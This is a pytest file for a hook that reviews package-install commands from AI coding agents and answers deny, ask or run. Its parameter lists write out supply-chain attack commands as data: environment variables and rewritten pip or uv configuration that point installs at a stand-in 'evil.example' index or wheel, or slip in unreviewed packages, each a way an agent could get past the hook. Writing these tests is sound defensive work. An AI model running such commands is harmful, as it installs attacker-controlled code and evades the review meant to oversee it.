"""The agent install hook reads what an install takes from its environment and from the files it names, against
git (attacks E2, E29, and the disk-only sources of E3).

* pip reads every long option from ``PIP_<OPTION>``: ``PIP_REQUIREMENT``/``PIP_CONSTRAINT``/``PIP_EDITABLE``
  are ``-r``/``-c``/``-e`` (uv: ``UV_CONSTRAINT``, ``UV_OVERRIDE``, ``UV_BUILD_CONSTRAINT``), whether assigned in
  front of the command, through ``env``/``sudo``, or exported earlier in it;
* a variable that moves the installers' configuration files (``XDG_CONFIG_HOME``, ``HOME``, ...) is a source
  setting the text does not tell: asked about;
* a constraint or override that moves a package the command names to a URL, and a requirements file whose
  source (``--index-url``, ``name @ URL``) differs on disk from git, is that package from that source (HC040).

Every case runs in a real git repository, through the payload shapes of Claude Code, Codex and Cursor.
"""

from __future__ import annotations

import os
from pathlib import Path

import pytest

from tests.conftest import Repo
from tests.test_install_check_git import BASE, SHAPES, answer

EVIL = "https://evil.example/simple"
WHEEL = "https://evil.example/rich-13.0-py3-none-any.whl"


@pytest.fixture
def project(repo: Repo, monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> Repo:
    """A committed project that declares ``rich``; the hook runs from another directory (the payload's cwd
    decides), with no user pip configuration."""
    repo.commit({"pyproject.toml": BASE}, "init")
    monkeypatch.setenv("PIP_CONFIG_FILE", os.devnull)
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    monkeypatch.chdir(elsewhere)
    return repo


@pytest.mark.parametrize("shape", sorted(SHAPES))
@pytest.mark.parametrize(("command", "expected"), [
    ("echo huggingface-cli > r.txt; PIP_REQUIREMENT=r.txt pip install", "deny"),
    ("echo huggingface-cli > r.txt && PIP_REQUIREMENT=r.txt pip install --upgrade pip", "deny"),
    ("echo huggingface-cli > r.txt; export PIP_REQUIREMENT=r.txt; pip install", "deny"),
    ("echo huggingface-cli > r.txt; PIP_REQUIREMENT=r.txt; export PIP_REQUIREMENT; pip install", "deny"),
    ("echo huggingface-cli > r.txt; env PIP_REQUIREMENT=r.txt python -m pip install", "deny"),
    ("echo huggingface-cli > r.txt; sudo -E PIP_REQUIREMENT=r.txt pip install", "deny"),
    ("echo huggingface-cli > r.txt; PIP_REQUIREMENT=r.txt bash -c 'pip install -q'", "deny"),
    ("echo leftpadz-zz > c.txt; PIP_CONSTRAINT=c.txt pip install rich", "ask"),
    ("PIP_REQUIREMENT=$REQS pip install", "ask"),
    ("PIP_EDITABLE=git+https://github.com/evil/x#egg=x pip install", "ask"),
    ("XDG_CONFIG_HOME=$PWD/cfg pip install", "ask"),
    ("mkdir -p cfg/pip && printf '[install]\\nrequirement = r.txt\\n' > cfg/pip/pip.conf && "
     "XDG_CONFIG_HOME=$PWD/cfg pip install", "ask"),
    ("HOME=/tmp/elsewhere pip install rich", "ask"),
    ("export XDG_CONFIG_HOME=/tmp/cfg; uv sync", "ask"),
    ("APPDATA=C:/cfg uv pip install rich", "ask"),
    (f"echo 'rich @ {WHEEL}' > c.txt; pip install -c c.txt rich", "ask"),
    (f"echo 'rich @ {WHEEL}' > c.txt; pip install -r c.txt rich", "ask"),
    (f"echo 'rich @ {WHEEL}' > c.txt; PIP_CONSTRAINT=c.txt pip install rich", "ask"),
    (f"echo 'rich @ {WHEEL}' > o.txt; uv pip install --override o.txt rich", "ask"),
    (f"echo 'rich @ {WHEEL}' > o.txt; UV_OVERRIDE=o.txt uv pip install rich", "ask"),
    ("pip install rich", "run"),
    ("HOME=/tmp/elsewhere ls", "run"),
    ("unset PIP_REQUIREMENT; pip install rich", "run"),
])
def test_the_environment_of_an_install_is_read(project: Repo, shape: str, command: str, expected: str,
                                               monkeypatch: pytest.MonkeyPatch,
                                               capsys: pytest.CaptureFixture[str]) -> None:
    assert answer(SHAPES[shape](command, project.root), monkeypatch, capsys) == expected


@pytest.mark.parametrize("shape", sorted(SHAPES))
@pytest.mark.parametrize(("committed", "on_disk", "command"), [
    ("rich\n", f"rich @ {WHEEL}\n", "pip install -r c.txt"),
    ("rich\n", f"rich @ {WHEEL}\n", "pip install -c c.txt rich"),
    ("rich\n", f"--index-url {EVIL}\nrich\n", "pip install -r c.txt"),
    ("rich\n", f"--extra-index-url {EVIL}\nrich\n", "uv pip install -r c.txt"),
    ("rich\n", f"rich @ {WHEEL}\n", "PIP_CONSTRAINT=c.txt pip install rich"),
    ("rich\n", f"rich @ {WHEEL}\n", "UV_OVERRIDE=c.txt uv pip install rich"),
])
def test_a_source_moved_on_disk_is_asked_about(project: Repo, shape: str, committed: str, on_disk: str,
                                               command: str, monkeypatch: pytest.MonkeyPatch,
                                               capsys: pytest.CaptureFixture[str]) -> None:
    """A name git holds from the index that the file on disk takes from a URL or another index is new from there;
    the same file as git holds it runs."""
    project.commit({"c.txt": committed}, "constraints")
    assert answer(SHAPES[shape](command, project.root), monkeypatch, capsys) == "run"
    project.write("c.txt", on_disk)
    assert answer(SHAPES[shape](command, project.root), monkeypatch, capsys) == "ask"
    project.commit({"c.txt": on_disk}, "the source, reviewed and committed")
    assert answer(SHAPES[shape](command, project.root), monkeypatch, capsys) == "run"


def test_a_private_index_committed_with_the_file_stays_the_projects(project: Repo, monkeypatch: pytest.MonkeyPatch,
                                                                    capsys: pytest.CaptureFixture[str]) -> None:
    private = "https://pkgs.example.com/simple"
    project.commit({"requirements.txt": f"--index-url {private}\nrich\n"}, "private index")
    project.write("requirements.txt", f"--index-url {private}\nrich\nrich>=13\n")
    assert answer(SHAPES["claude"]("pip install -r requirements.txt", project.root), monkeypatch, capsys) == "run"


def test_pip_options_from_the_environment_in_files(repo: Repo, run: object) -> None:
    """E2 in files: a script that sets ``PIP_REQUIREMENT`` for its install names what that file holds."""
    repo.commit({"pyproject.toml": '[project]\nname = "demo"\nversion = "1"\ndependencies = ["rich"]\n'})
    repo.stage({"setup.sh": "#!/bin/sh\necho huggingface-cli > r.txt\nPIP_REQUIREMENT=r.txt pip install\n"})
    outcome = run()  # type: ignore[operator]
    assert outcome.code == 1 and outcome.codes() == ["HC031"], outcome.out
    repo.stage({"setup.sh": "#!/bin/sh\nexport XDG_CONFIG_HOME=/tmp/cfg\npip install rich\n"})
    outcome = run()  # type: ignore[operator]
    assert outcome.code == 1 and outcome.codes() == ["HC043"], outcome.out


@pytest.mark.parametrize("shape", sorted(SHAPES))
@pytest.mark.parametrize(("committed", "command", "expected"), [
    ("--extra-index-url ${PRIVATE_INDEX}\nrich\n", f"PRIVATE_INDEX={EVIL} pip install -r requirements.txt", "ask"),
    ("--extra-index-url ${PRIVATE_INDEX}\nrich\n", f"export PRIVATE_INDEX={EVIL} && pip install -r requirements.txt",
     "ask"),
    ("--extra-index-url ${PRIVATE_INDEX}\nrich\n", "pip install -r requirements.txt", "ask"),
    ("--extra-index-url ${PRIVATE_INDEX}\nrich\n", "PRIVATE_INDEX=$(cat url) pip install -r requirements.txt", "ask"),
    ("rich\n${EXTRA_PKG}\n", "EXTRA_PKG=huggingface-cli pip install -r requirements.txt", "deny"),
    ("rich\n${EXTRA_PKG}\n", "EXTRA_PKG=huggingface-cli uv pip install -r requirements.txt", "deny"),
    ("rich  # pinned in ${DOCS}\n", "pip install -r requirements.txt", "run"),
    ("rich\n", "echo '${EXTRA_PKG}' > r.txt; EXTRA_PKG=huggingface-cli pip install -r r.txt", "deny"),
])
def test_variables_pip_expands_in_a_requirements_file_are_the_commands(
        project: Repo, shape: str, committed: str, command: str, expected: str, monkeypatch: pytest.MonkeyPatch,
        capsys: pytest.CaptureFixture[str]) -> None:
    """Attack E25: pip expands ``${NAME}`` in a requirements file from the environment, so a committed file is
    read with the command's variables; a name the command does not set is asked about (what the agent's
    environment holds there is not known)."""
    project.commit({"requirements.txt": committed}, "requirements")
    assert answer(SHAPES[shape](command, project.root), monkeypatch, capsys) == expected


UV_TOML = f'[[index]]\nurl = "{EVIL}"\ndefault = true\n'
UV_INDEX = f'\n[[tool.uv.index]]\nurl = "{EVIL}"\ndefault = true\n'


@pytest.mark.parametrize("shape", sorted(SHAPES))
@pytest.mark.parametrize("command", ["uv add rich", "uv pip install rich", "uv sync", "cd sub && uv add rich",
                                     "uv run --with rich python x.py"])
@pytest.mark.parametrize("written", ["uv.toml", "pyproject.toml", "uv.toml staged"])
def test_a_package_index_uv_reads_only_from_disk_is_asked_about(
        project: Repo, shape: str, command: str, written: str, monkeypatch: pytest.MonkeyPatch,
        capsys: pytest.CaptureFixture[str]) -> None:
    """Attack E3: uv reads ``uv.toml`` and ``[tool.uv]`` of the project (the nearest above where it runs); an
    index the agent wrote there, untracked, unstaged or only staged, is a source HEAD does not have."""
    project.commit({"sub/x.py": ""}, "sub")
    assert answer(SHAPES[shape](command, project.root), monkeypatch, capsys) == "run"
    if written.startswith("uv.toml"):
        project.write("uv.toml", UV_TOML)
    else:
        project.write("pyproject.toml", BASE + UV_INDEX)
    if written.endswith("staged"):
        project.git("add", "-A")
    assert answer(SHAPES[shape](command, project.root), monkeypatch, capsys) == "ask"
    project.git("add", "-A")
    project.commit(message="the index, reviewed and committed")
    assert answer(SHAPES[shape](command, project.root), monkeypatch, capsys) == "run"


@pytest.mark.parametrize("shape", sorted(SHAPES))
@pytest.mark.parametrize("command", [
    f"printf '[[index]]\\nurl = \"{EVIL}\"\\ndefault = true\\n' > uv.toml && uv add rich",
    f"printf '[global]\\nindex-url = {EVIL}\\n' > pip.conf; PIP_CONFIG_FILE=pip.conf pip install rich",
    f"mkdir -p ~/.config/pip && printf '[global]\\nindex-url={EVIL}\\n' > ~/.config/pip/pip.conf && pip install rich",
    f"printf '\\n[[tool.uv.index]]\\nurl = \"{EVIL}\"\\ndefault = true\\n' >> pyproject.toml && uv sync",
])
def test_a_command_that_writes_installer_configuration_then_installs_is_asked_about(
        project: Repo, shape: str, command: str, monkeypatch: pytest.MonkeyPatch,
        capsys: pytest.CaptureFixture[str]) -> None:
    """The hook reads the disk before the command runs: configuration the command writes first is not there yet."""
    assert answer(SHAPES[shape](command, project.root), monkeypatch, capsys) == "ask"
